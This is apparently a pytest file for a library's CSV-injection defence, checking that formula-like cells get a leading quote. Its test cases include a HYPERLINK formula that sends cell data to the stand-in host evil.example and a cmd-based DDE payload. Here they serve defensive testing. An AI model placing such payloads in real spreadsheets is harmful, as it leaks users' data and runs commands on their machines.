"""CSV cells that a spreadsheet would run as formulas are neutralised (CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from icmec.spreadsheets import neutralise_formula, safe_row


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ann", "Ann"),
        ("ann@example.org", "ann@example.org"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
        (date(2026, 1, 1), date(2026, 1, 1)),
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(value, expected):
    assert neutralise_formula(value) == expected


def test_a_neutralised_row_reads_back_as_text():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["=1+1", "Ann", 3]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "Ann", "3"]
